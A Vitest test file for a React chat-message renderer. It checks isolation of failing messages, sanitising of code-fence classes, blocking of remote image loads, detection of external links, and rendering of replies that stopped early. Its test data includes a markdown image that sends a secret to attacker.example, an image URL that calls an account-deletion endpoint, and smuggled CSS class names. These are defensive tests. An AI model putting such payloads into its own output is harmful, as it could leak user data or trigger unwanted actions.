import { afterEach, describe, expect, it, vi } from 'vitest';
import { fireEvent, render, screen } from '@testing-library/react';
import { Lexer } from 'marked';
import { StreamingMessage, type CodeBlockProps } from '../../src/components/StreamingMessage.tsx';
import { MessageRow } from '../../src/components/MessageRow.tsx';
import { isExternalUrl } from '../../src/components/markdown/sanitizeUrl.ts';

afterEach(() => vi.restoreAllMocks());

describe('one bad message stays in its bubble', () => {
  it.each(['>', '- ', '1. '])('renders %j×2000 on one line without crashing, keeping its text', (unit) => {
    const content = unit.repeat(2000) + 'tail';
    const { container } = render(<StreamingMessage content={content} status="done" />);
    expect(container.textContent).toContain('tail');
  });

  it('shows the text of a message whose renderer throws, and the other messages stay', () => {
    vi.spyOn(console, 'error').mockImplementation(() => {});
    const Broken = (_: CodeBlockProps): never => {
      throw new Error('renderer bug');
    };
    render(
      <>
        <StreamingMessage content={'Before\n\n```js\nx\n```'} status="done" components={{ code: Broken }} />
        <StreamingMessage content="A healthy **neighbour**" status="done" />
      </>,
    );
    expect(screen.getByText(/Before/)).toBeTruthy();
    expect(screen.getByText('neighbour').tagName).toBe('STRONG');
  });

  it('shows the text of a row whose custom renderMessage throws', () => {
    vi.spyOn(console, 'error').mockImplementation(() => {});
    const renderMessage = (): never => {
      throw new Error('boom');
    };
    render(<MessageRow message={{ id: '1', role: 'assistant', content: 'kept text', status: 'done' }} renderMessage={renderMessage} />);
    expect(screen.getByText('kept text')).toBeTruthy();
  });

  it('renders a block the lexer fails on as plain text and keeps the other blocks formatted', () => {
    const original = Lexer.prototype.blockTokens;
    vi.spyOn(Lexer.prototype, 'blockTokens').mockImplementation(function (this: Lexer, src: string, ...rest: never[]) {
      if (src.includes('POISON')) throw new RangeError('Maximum call stack size exceeded');
      return (original as (...a: unknown[]) => never).call(this, src, ...rest);
    } as typeof original);
    const { container } = render(<StreamingMessage content={'# Title\n\nPOISON *x*\n\nLast **bold**'} status="done" />);
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.textContent).toContain('POISON *x*');
  });
});

describe('code fence info strings', () => {
  it('never lets the info string pick classes', () => {
    const { container } = render(<StreamingMessage content={'```x&#32;rcs-caret&#9;evil-overlay\ncode\n```'} status="done" />);
    const code = container.querySelector('code') as HTMLElement;
    expect(code.className).toBe('language-x');
    expect(container.querySelector('.rcs-caret, .evil-overlay')).toBeNull();
  });

  it('drops a language that is not a plain name', () => {
    const { container } = render(<StreamingMessage content={'```a"b<c\ncode\n```'} status="done" />);
    expect(container.querySelector('code')?.className).toBe('');
    expect(container.querySelector('.rcs-code')?.getAttribute('data-language')).toBeNull();
  });

  it('keeps ordinary language names', () => {
    for (const lang of ['c++', 'c#', 'objective-c', 'python3', 'x.y_z']) {
      const { container, unmount } = render(<StreamingMessage content={'```' + lang + '\ncode\n```'} status="done" />);
      expect(container.querySelector('.rcs-code')?.getAttribute('data-language')).toBe(lang);
      unmount();
    }
  });
});

describe('images are not fetched on render', () => {
  it('shows a button instead of loading a remote image, and loads it on click without a referrer', () => {
    const { container } = render(<StreamingMessage content="![chart](https://attacker.example/p?d=secret)" status="done" />);
    expect(container.querySelector('img')).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: /Show image: chart/ }));
    const img = container.querySelector('img') as HTMLImageElement;
    expect(img.getAttribute('src')).toBe('https://attacker.example/p?d=secret');
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('does not load relative or reference-style images either', () => {
    const content = '![x](/api/account/delete?confirm=yes)\n\n![y][ref]\n\n[ref]: https://t.example/y.png';
    const { container } = render(<StreamingMessage content={content} status="done" />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getAllByRole('button', { name: /Show image/ })).toHaveLength(2);
  });

  it('loads images from allowed origins only', () => {
    const content = '![a](https://cdn.example/a.png) ![b](https://other.example/b.png)';
    const { container } = render(<StreamingMessage content={content} status="done" images={{ allowOrigins: ['https://cdn.example'] }} />);
    expect([...container.querySelectorAll('img')].map((i) => i.getAttribute('alt'))).toEqual(['a']);
  });

  it("loads every image with images='load'", () => {
    const { container } = render(<StreamingMessage content="![a](https://x.example/a.png)" status="done" images="load" />);
    expect(container.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });
});

describe('external links', () => {
  it.each(['\\\\\\\\host/p', 'https:host/p', '/&#9;/host/p', 'https://host/p', '//host/p'])(
    'opens [x](%s), which leaves the page origin, in a new tab',
    (href) => {
      const { container } = render(<StreamingMessage content={`[x](${href})`} status="done" />);
      const a = container.querySelector('a');
      expect(a?.getAttribute('target')).toBe('_blank');
    },
  );

  it('decides by where the browser would go from the page, not by how the URL looks', () => {
    const page = 'https://app.example/chat';
    expect(isExternalUrl('/docs', page)).toBe(false);
    expect(isExternalUrl('https://app.example/x', page)).toBe(false);
    // "https:host/p" is relative on an https page but another origin on an http one.
    expect(isExternalUrl('https:host/p', page)).toBe(false);
    expect(isExternalUrl('https:host/p', 'http://app.example/chat')).toBe(true);
    expect(isExternalUrl('http:host/p', page)).toBe(true);
    expect(isExternalUrl('\\\\host/p', page)).toBe(true);
    expect(isExternalUrl('/\t/host/p', page)).toBe(true);
    expect(isExternalUrl('mailto:a@b.example', page)).toBe(false);
  });
});

describe('a reply that ended early', () => {
  it.each(['stopped', 'error'] as const)('keeps its healed rendering when %s, without the caret', (status) => {
    const content = 'Some **once and [a link](https://exa';
    const streamed = render(<StreamingMessage content={content} status="streaming" />);
    const during = streamed.container.querySelector('.rcs-message')?.innerHTML.replace(/<span[^>]*rcs-caret[^>]*><\/span>/, '');
    streamed.rerender(<StreamingMessage content={content} status={status} />);
    const el = streamed.container.querySelector('.rcs-message') as HTMLElement;
    expect(el.innerHTML).toBe(during);
    expect(el.querySelector('strong')).not.toBeNull();
    expect(el.querySelector('a')).toBeNull();
    expect(el.querySelector('.rcs-caret')).toBeNull();
  });

  it('does not show a dangling list number as an empty item after Stop', () => {
    const { container } = render(<StreamingMessage content={'1. one\n2.'} status="stopped" />);
    expect(container.querySelectorAll('li')).toHaveLength(1);
  });
});
